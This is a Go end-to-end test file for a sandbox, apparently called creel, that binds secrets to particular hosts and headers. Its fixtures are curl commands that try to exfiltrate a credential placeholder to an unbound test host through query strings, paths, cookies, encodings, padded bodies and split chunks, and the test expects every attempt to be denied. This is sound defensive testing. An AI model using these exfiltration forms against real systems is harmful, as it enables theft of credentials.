package e2e

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/creel-run/creel/audit"
)

// canary is a value that must be seen at one place only.
func canary(name string) string { return "canary-" + name + "-4f1d7a90c2" }

// secretBox is a sandbox with TOKEN for ok.test (header X-Token) and KEY for
// other.test (Authorization), and a policy that allows both and third.test.
func secretBox(t *testing.T, s *sink) box {
	return box{
		policy: twoHosts(restFull, "ok.test", "other.test", "third.test"),
		flags: join(s.upstreams("ok.test", "other.test", "third.test"), []string{"--trust-ca", caFile(t),
			"--secret", "TOKEN=env:E2E_TOKEN@ok.test:X-Token", "--secret", "KEY=env:E2E_KEY@other.test:Authorization"}),
		env: []string{"E2E_TOKEN=" + canary("token"), "E2E_KEY=" + canary("key")},
	}
}

// TestSecrets: the value arrives at the bound place and nowhere else; the
// placeholder is refused elsewhere, in whatever form.
func TestSecrets(t *testing.T) {
	bothUsers(t, func(t *testing.T) {
		s := newSink(t)
		s.extra = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprintln(w, "echo") })
		l := secretBox(t, s).start(t)
		at := func(path, header string) string {
			for _, r := range s.requests() {
				if strings.HasPrefix(r.URI, path) {
					return r.Header.Get(header)
				}
			}
			return "(not arrived)"
		}
		env := l.sh("env")
		if !strings.Contains(env, "TOKEN=creel:cred:") || !strings.Contains(env, "KEY=creel:cred:") {
			t.Fatalf("no placeholders: %s", env)
		}
		l.sh(`curl -sS -H "X-Token: $TOKEN" https://ok.test/given; curl -sS https://ok.test/unasked; curl -sS -H "Authorization: Bearer $KEY" https://other.test/bearer; curl -sS -u "me:$KEY" https://other.test/basic`)
		for path, want := range map[string][2]string{
			"/given": {"X-Token", canary("token")}, "/unasked": {"X-Token", canary("token")}, "/bearer": {"Authorization", "Bearer " + canary("key")},
			"/basic": {"Authorization", "Basic " + base64.StdEncoding.EncodeToString([]byte("me:"+canary("key")))},
		} {
			if got := at(path, want[0]); got != want[1] {
				t.Errorf("%s: %s is %q", path, want[0], got)
			}
		}
		l.event(0, "the use of the secret", func(e audit.Event) bool { return e.Kind == audit.Credential && e.Detail["names"] == "TOKEN" })

		// Escapes: a placeholder where it is not bound, in every form.
		sub := func(id string, attacks ...string) {
			t.Run("escape_"+id, func(t *testing.T) {
				for i, a := range attacks {
					mark, path := len(l.events()), fmt.Sprintf("/%s-%d", id, i)
					got := l.sh(strings.ReplaceAll(a, "/P", path))
					if s.got(path) || s.holds(path+"/") {
						t.Errorf("%s: the sink got it: %s", a, got)
					}
					l.denied(mark)
				}
			})
		}
		sub("CRED-04", `curl -sS -H "X-Token: $KEY" https://ok.test/P`, `curl -sS -H "Authorization: Bearer $TOKEN" https://other.test/P`,
			`curl -sS -H "X-Token: $TOKEN" https://third.test/P`, `curl -sS -H "X-Other: $TOKEN" https://ok.test/P`,
			`curl -sS -u "x:$TOKEN" https://third.test/P`, `curl -sS -H "X-Token: $TOKEN" http://ok.test/P`)
		up := `$(printf %s "$TOKEN" | tr a-z A-Z)`
		pct := `$(printf %s "$TOKEN" | sed 's/:/%3A/g; s/c/%63/g')`
		sub("CRED-08", `curl -sS "https://third.test/P?x=$TOKEN"`, `curl -sS "https://ok.test/P?x=$TOKEN"`, `curl -sS "https://ok.test/P/$TOKEN"`,
			`curl -sS "https://third.test/P/`+pct+`"`, `curl -sS "https://third.test/P?q=`+pct+`"`, `curl -sS -H "X-A: `+up+`" https://third.test/P`,
			`curl -sS -b "c=$TOKEN" https://third.test/P`, `curl -sS -A "$TOKEN" https://ok.test/P`,
			`curl -sS -H "Authorization: Basic $(printf %s "x:$TOKEN" | base64 -w0)" https://third.test/P`)
		// In bodies the request may begin to go out; the placeholder never does.
		t.Run("escape_CRED-08-body", func(t *testing.T) {
			for _, a := range []string{
				`curl -sS -d "x=$TOKEN" https://third.test/body`, `curl -sS -F "f=$TOKEN" https://ok.test/body`,
				`curl -sS -H 'Transfer-Encoding: chunked' -d "x=$TOKEN" https://ok.test/body`,
				`(head -c 100000 /dev/zero; printf %s "$TOKEN"; head -c 100000 /dev/zero) | curl -sS --data-binary @- https://third.test/body`,
			} {
				mark := len(l.events())
				got := l.sh(a)
				l.denied(mark)
				if s.has(func(r seen) bool { return strings.Contains(string(r.Body), "creel:cred") }) || s.holds("creel:cred") {
					t.Fatalf("%s: the placeholder went out: %s", a, got)
				}
			}
			// A chunk border in the middle of the placeholder.
			place := strings.TrimPrefix(l.sh(`echo "$TOKEN"`), "")
			half := len(place) / 2
			mark := len(l.events())
			got := l.wire(wire{Way: transparent, Host: "third.test", TLS: true, Payload: []byte(fmt.Sprintf(
				"POST /chunks HTTP/1.1\r\nHost: third.test\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n%x\r\n%s\r\n0\r\n\r\n",
				half, place[:half], len(place)-half, place[half:]))})
			l.denied(mark)
			if s.holds("creel:cred") {
				t.Errorf("the placeholder went out in chunks: %s", got)
			}
		})
		t.Run("escape_CRED-15", func(t *testing.T) {
			for _, a := range []string{`curl -sS -H 'X-Token: mine' https://ok.test/own`, `curl -sS -H 'Authorization: Bearer mine' https://other.test/own`,
				`curl -sS -H "X-Token: $TOKEN" -H 'X-Token: mine' https://ok.test/own`, `curl -sS -u me:mine https://other.test/own`,
				`curl -sS -H 'Authorization: Bearer mine' https://ok.test/own`, `curl -sS -H 'Cookie: session=mine' -H 'X-Api-Key: mine' https://ok.test/own`} {
				mark := len(l.events())
				got := l.sh(a)
				if s.got("/own") {
					t.Fatalf("%s: a foreign credential reached the bound host: %s", a, got)
				}
				l.denied(mark)
			}
		})
		t.Run("escape_HTTP-22", func(t *testing.T) {
			got := l.wire(wire{Way: transparent, Host: "ok.test", TLS: true, Payload: []byte("GET /hop HTTP/1.1\r\nHost: ok.test\r\nConnection: X-Token, close\r\n\r\n")})
			if v := at("/hop", "X-Token"); v != canary("token") {
				t.Errorf("what was put in was dropped: %q\n%s", v, got)
			}
		})
		t.Run("escape_CRED-01_CRED-03_CRED-19", func(t *testing.T) {
			for _, c := range []string{canary("token"), canary("key")} {
				if got := l.probe("hunt", hex.EncodeToString([]byte(c))); got.Code != 0 || !strings.Contains(string(got.Stdout), "searched") {
					t.Errorf("%s%s", got.Stdout, got.Stderr)
				}
			}
			log, _ := os.ReadFile(l.audit)
			if strings.Contains(string(log), "canary-") || strings.Contains(l.stderr.String(), "canary-") {
				t.Error("a secret stands in the audit log or on standard error")
			}
		})
		if s.holds("creel:cred") {
			t.Error("a placeholder reached the sink")
		}
		if got := l.sh("curl -sS https://ok.test/after"); !s.got("/after") {
			t.Errorf("the sandbox does not work afterwards: %s", got)
		}
	})
}

// TestSecretsUninspected (CRED-13): a binding whose host is not inspected could
// never be filled in; the placeholder must not go out as it is.
func TestSecretsUninspected(t *testing.T) {
	bothUsers(t, func(t *testing.T) {
		for _, protocol := range []string{"", ", tls: skip"} {
			s := newSink(t)
			b := box{policy: twoHosts(protocol, "ok.test"), flags: join(s.upstreams("ok.test"), []string{"--trust-ca", caFile(t), "--secret", "TOKEN=env:E2E_TOKEN@ok.test:X-Token"}),
				env: []string{"E2E_TOKEN=" + canary("token")}}
			r := b.run(t, "sh", "-c", `curl -sSk -H "X-Token: $TOKEN" https://ok.test/skip; curl -sSk -H "X-Token: $TOKEN" http://ok.test/skip; true`)
			if s.holds("creel:cred") {
				t.Errorf("escape_CRED-13 %q: the placeholder went upstream, status %d\n%s", protocol, r.code, r.stderr)
			}
		}
	})
}

// TestSecretFromFile reads the value from a file, and nested placeholders stay text.
func TestSecretFromFile(t *testing.T) {
	bothUsers(t, func(t *testing.T) {
		s := newSink(t)
		file := filepath.Join(t.TempDir(), "token")
		write(t, file, "creel:cred:KEY\n") // escape_CRED-07: the value is A's placeholder
		box{policy: twoHosts(restFull, "ok.test"), flags: join(s.upstreams("ok.test"), []string{"--trust-ca", caFile(t),
			"--secret", "TOKEN=file:" + file + "@ok.test:X-Token", "--secret", "KEY=env:E2E_KEY@other.test"}),
			env: []string{"E2E_KEY=" + canary("key")}}.run(t, "curl", "-sS", "https://ok.test/nested")
		for _, r := range s.requests() {
			if v := r.Header.Get("X-Token"); v != "creel:cred:KEY" {
				t.Errorf("arrived as %q", v)
			}
		}
		if s.holds(canary("key")) {
			t.Error("a placeholder in a value was filled in")
		}
	})
}
